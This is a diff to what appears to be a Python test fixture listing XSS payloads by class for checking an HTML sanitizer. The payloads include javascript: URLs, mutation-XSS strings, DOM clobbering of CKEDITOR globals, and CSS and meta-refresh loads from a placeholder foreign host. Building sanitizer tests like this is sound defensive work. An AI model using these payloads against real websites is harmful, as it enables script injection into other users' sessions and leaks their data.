@@ -1,7 +1,7 @@
-"""What an attacker would write into a body, by class. Each, where it is not stopped, makes `top.hits` grow or calls out.
+"""What an attacker would write into a body, by class. Where nothing stops it, it makes `top.hits` grow or calls out.
 
-Our own writing, after the classes that the HTML standard leaves open: what runs by an attribute, by an address, by being
-parsed a second time, by standing in a place that a filter takes for another one.
+Our own writing, after the classes that the HTML standard leaves open: what runs by an attribute, by an address, by
+being parsed a second time, by standing in a place that a filter takes for another one.
 """
 
 HIT = "top.hits++"
@@ -22,7 +22,8 @@ VECTORS: dict[str, list[str]] = {
         f'<svg><script href="data:text/javascript,{HIT}"></script></svg>',
         f"<object><script>{HIT}</script></object>",
         f'<object data="{FOREIGN}/x"></object><embed src="{FOREIGN}/x"><applet code=x>',
-        f'<base href="{FOREIGN}/"><link rel=stylesheet href="{FOREIGN}/x.css"><link rel=preload as=script href="{FOREIGN}/x">',
+        f'<base href="{FOREIGN}/"><link rel=stylesheet href="{FOREIGN}/x.css">',
+        f'<link rel=preload as=script href="{FOREIGN}/x"><link rel=prefetch href="{FOREIGN}/x">',
         f'<meta http-equiv="refresh" content="0; url={FOREIGN}/"><meta http-equiv="Set-Cookie" content="a=b">',
         f'<form action="{FOREIGN}/"><input name=csrfmiddlewaretoken><button>x</button></form>',
         f'<video poster="{FOREIGN}/x" src="{FOREIGN}/x" autoplay></video><audio src="{FOREIGN}/x" autoplay></audio>',
@@ -71,7 +72,7 @@ VECTORS: dict[str, list[str]] = {
         ),
         f'<iframe src="javascript:{HIT}"></iframe>',
         f'<iframe src="data:text/html,<script>{TELL}</script>"></iframe>',
-        f"<object data=\"data:text/html,<script>{TELL.replace(chr(39), '`')}</script>\"></object>",
+        f'<object data="data:text/html,<script>{TELL.replace(chr(39), "`")}</script>"></object>',
         f'<embed src="javascript:{HIT}">',
         f'<form action="javascript:{HIT}"><button>x</button></form>',
         f'<form><button formaction="javascript:{HIT}">x</button></form>',
@@ -79,14 +80,14 @@ VECTORS: dict[str, list[str]] = {
         f'<svg><a><animate attributeName=href values="javascript:{HIT}" /><text y=9>x</text></a></svg>',
         f'<math><mi href="javascript:{HIT}">x</mi></math>',
         f'<map><area href="javascript:{HIT}" shape=default></map><img usemap="#x" src=x>',
-        f'<a href="//kia.example">x</a><a href="/\\kia.example">x</a><img src="//kia.example/x"><img src="{FOREIGN}/x">',
+        '<a href="//kia.example">x</a><a href="/\\kia.example">x</a><img src="//kia.example/x">',
         f'<blockquote cite="javascript:{HIT}">x</blockquote><a ping="{FOREIGN}/x" href="/x/">x</a>',
     ],
     "mutation": [
         f'<svg></p><style><a id="</style>{_IMG}">',
         f'<math><mtext><table><mglyph><style><math title="</style>{_IMG}">',
         f"<math><mtext><table><mglyph><style><!--</style>{_IMG}-->",
-        f'<form><math><mtext></form><form><mglyph><style></math>{_IMG}',
+        f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
         f'<svg><title><style><img src="</style>{_IMG}">',
         f"<svg><desc>{_IMG}</desc></svg>",
         f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
@@ -142,7 +143,8 @@ VECTORS: dict[str, list[str]] = {
         f'<p style="width:expression({HIT});behavior:url({FOREIGN}/x)">x</p>',
         f"<svg><style>{_IMG}</style></svg><style></style>{_IMG}",
         f'<div class="info-box" style="position:fixed;inset:0;z-index:9" onclick="{HIT}">x</div>',
-        f"<link rel=stylesheet href='data:text/css,*{{background:url({FOREIGN}/x)}}'><style>*{{cursor:url({FOREIGN}/x)}}</style>{_IMG}",
+        f"<link rel=stylesheet href='data:text/css,*{{background:url({FOREIGN}/x)}}'>",
+        f"<style>*{{cursor:url({FOREIGN}/x)}}</style>{_IMG}",
         f"<style>p{{color:red</style><p class='source MsoNormal' onmouseover={HIT}>x</p>",
     ],
     "entities": [
@@ -207,7 +209,7 @@ VECTORS: dict[str, list[str]] = {
         f"<p/onclick={HIT}/>x{_IMG}",
         f"<img src='x' onerror='{HIT}'\"'>",
         f"<p title=`>{_IMG}`>x",
-        f"<p =\"><img src=x onerror={HIT}>\">x</p>",
+        f'<p ="><img src=x onerror={HIT}>">x</p>',
         f"<table><tr><p>{_IMG}<td></table></p></td>{_IMG}",
         f"<figure><p>{_IMG}<figcaption></figure>{_IMG}</figcaption>",
         f"<frameset></frameset>{_IMG}<body onload={HIT}>",
@@ -215,7 +217,8 @@ VECTORS: dict[str, list[str]] = {
     ],
     "names": [
         f'<a id="main" name="main" href="javascript:{HIT}">x</a><form id="site"><input name="action"></form>',
-        f'<img name="querySelectorAll" id="CKEDITOR" src=x onerror="{HIT}"><a id="CKEDITOR_BASEPATH" href="{FOREIGN}/">x</a>',
+        f'<img name="querySelectorAll" id="CKEDITOR" src=x onerror="{HIT}">',
+        f'<a id="CKEDITOR_BASEPATH" href="{FOREIGN}/" onclick="{HIT}">x</a>',
         f'<p class="skip wrap video unbroken" id="id_body" data-player="javascript:{HIT}" onclick="{HIT}">x</p>',
         f'<a class="video-link" data-player="javascript:{HIT}" data-copy-address="x" href="javascript:{HIT}">x</a>',
         f'<div class="info-box" data-relative data-copy-address="{FOREIGN}" contenteditable onclick="{HIT}">x</div>',
